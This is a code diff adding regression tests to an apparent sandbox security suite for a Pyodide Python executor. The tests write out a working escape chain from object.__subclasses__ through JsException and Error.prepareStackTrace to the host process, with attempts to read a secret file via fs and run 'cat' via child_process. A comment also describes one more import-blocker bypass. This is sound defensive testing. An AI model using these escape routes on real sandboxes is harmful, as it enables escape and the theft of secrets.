@@ -44,7 +44,176 @@ def reach_js_global():
     return found[0], Object
 `;
 
+/** Finds a class by name among every subclass of object: the C types of the bridge stay alive. */
+const FIND_TYPE = `
+def find_type(name):
+    seen = set(); stack = [object]
+    while stack:
+        c = stack.pop()
+        try:
+            subs = type.__subclasses__(c)
+        except TypeError:
+            continue
+        for s in subs:
+            if s not in seen:
+                seen.add(s); stack.append(s)
+                if s.__name__ == name:
+                    return s
+    raise LookupError(name)
+`;
+
+/**
+ * The route of the outside attack run (issue 13): JsException("Error", "m").constructor is JS's
+ * Error; a Python function as Error.prepareStackTrace receives CallSites, whose getThis() in a
+ * sloppy frame of the glue is the worker's globalThis. Checked on the code before the import gate:
+ * it reached process and process.getBuiltinModule (v8 answered; fs was refused by layer 2).
+ */
+const JSEXCEPTION_TO_GLOBAL = `${FIND_TYPE}
+def reach_js_global():
+    JsException = find_type('JsException')
+    Error = JsException('Error', 'm').constructor
+    found = []
+    def prepare(error, sites):
+        for site in sites:
+            this = site.getThis()
+            if found == [] and repr(this) == '[object global]':
+                found.append(this)
+        return 'x'
+    Error.prepareStackTrace = prepare
+    str(Error.new('provoke').stack)
+    return found[0]
+`;
+
+/** What a closed door answers: the call fails with SANDBOX_CRASH naming the import. */
+function closedDoor(door: string): (body: any) => void {
+  return (body) => {
+    expect(body.ok, JSON.stringify(body).slice(0, 300)).toBe(false);
+    expect(body.error.code).toBe('SANDBOX_CRASH');
+    expect(body.error.message).toContain(
+      `called "${door}", a JavaScript import that is closed in this sandbox`,
+    );
+  };
+}
+
 export const PYTHON_ATTACKS: readonly Attack[] = [
+  // The outside attack run's route (issue 13), through the C types that removing modules left
+  // alive. Closed at the import table: every import of pyodide.asm.wasm that is not a door
+  // (interpreters/python/doors.ts) traps once the interpreter has booted.
+  py({
+    id: 'py-jsexception-to-process',
+    title:
+      'object.__subclasses__() → JsException("Error", "m").constructor → Error.prepareStackTrace → CallSite.getThis() → globalThis.process',
+    result: 'SANDBOX_CRASH at the first closed import (JsException_new_helper); the interpreter is discarded',
+    finding:
+      "Pyodide's JS FFI stayed callable from its C types after _pyodide_core was removed: the worker's globalThis, process and process.getBuiltinModule (v8 answered); fixed by closing every import that is not a door once the interpreter has booted",
+    code: `${JSEXCEPTION_TO_GLOBAL}
+def f():
+    out = {}
+    def t(name, fn):
+        try:
+            out[name] = repr(fn())[:200]
+        except BaseException as e:
+            out[name] = 'refused: ' + type(e).__name__ + ': ' + str(e)[:150]
+    g = reach_js_global()
+    p = g.process
+    t('pid', lambda: p.pid)
+    get = p.getBuiltinModule
+    t('v8', lambda: get('v8').getHeapStatistics().total_heap_size)
+    t('fs', lambda: get('fs').readFileSync('{{SECRET_FILE}}', 'utf8'))
+    t('child_process', lambda: get('child_process').execSync('cat {{SECRET_FILE}}'))
+    return out
+`,
+    limits: { timeoutMs: 10_000 },
+    check: closedDoor('JsException_new_helper'),
+  }),
+  // Siblings: other bridge functions reachable without any module (the Python classes of Pyodide's
+  // asyncio loop hold _pyodide_core's functions), the guest catching the trap and carrying on, the
+  // trap inside a finalizer and a generator run while the result is read, and a JsProxy method
+  // applied by hand. Each call fails with the typed error; the next call is clean.
+  {
+    id: 'py-ffi-doors',
+    title:
+      'the bridge by other doors: WebLoop.call_soon (create_once_callable), a loop from WebLoopPolicy, a trap caught and ignored, in __del__, in a result generator, JsProxy methods',
+    result: 'SANDBOX_CRASH naming the closed import every time, whatever the guest does after the throw',
+    async run(h) {
+      // [door, code, codec]: the "zobject" codec iterates a returned generator (user code runs then).
+      const cases: [string, string, string?][] = [
+        [
+          'create_once_callable',
+          `${FIND_TYPE}
+def f():
+    find_type('WebLoop')().call_soon(print)
+    return 'ran'
+`,
+        ],
+        [
+          'create_once_callable',
+          `${FIND_TYPE}
+def f():
+    loop = find_type('WebLoopPolicy')().new_event_loop()
+    loop.call_later(0.01, print, 'x')
+    return 'ran'
+`,
+        ],
+        [
+          'JsException_new_helper',
+          `${FIND_TYPE}
+def f():
+    for _ in range(3):
+        try:
+            find_type('JsException')('Error', 'm')
+        except BaseException:
+            pass
+    return 'survived'
+`,
+        ],
+        [
+          'JsException_new_helper',
+          `${FIND_TYPE}
+class Bomb:
+    def __del__(self):
+        try:
+            find_type('JsException')('Error', 'in a finalizer')
+        except BaseException:
+            pass
+def f():
+    Bomb()
+    return 'survived'
+`,
+        ],
+        [
+          'JsException_new_helper',
+          `${FIND_TYPE}
+def f():
+    def gen():
+        yield 1
+        find_type('JsException')('Error', 'while the result is read')
+    return gen()
+`,
+          'zobject',
+        ],
+        [
+          'JsException_new_helper',
+          `${FIND_TYPE}
+def f():
+    e = find_type('JsException')('TypeError', 'm')
+    return [find_type('JsProxy').object_keys(e), e.to_py(), dir(e)]
+`,
+        ],
+      ];
+      for (const [door, code, codec] of cases) {
+        const answer = await h.evaluate('python', code, {
+          fn: 'f',
+          limits: { timeoutMs: 10_000 },
+          ...(codec === undefined ? {} : { codec }),
+        });
+        expect(answer.status).toBe(200);
+        closedDoor(door)(answer.body);
+        const next = await h.evaluate('python', 'def f():\n    return 1 + 1\n', { fn: 'f' });
+        expect(next.body).toMatchObject({ ok: true, value: 2 });
+      }
+    },
+  },
   // Found here (reported to the Python executor's owner, not fixed in this change): the import
   // blocker and the audit hook see imports that go through _find_spec; importlib._bootstrap._load
   // with a spec from BuiltinImporter skips both and loads _pyodide_core. Its to_js/create_proxy
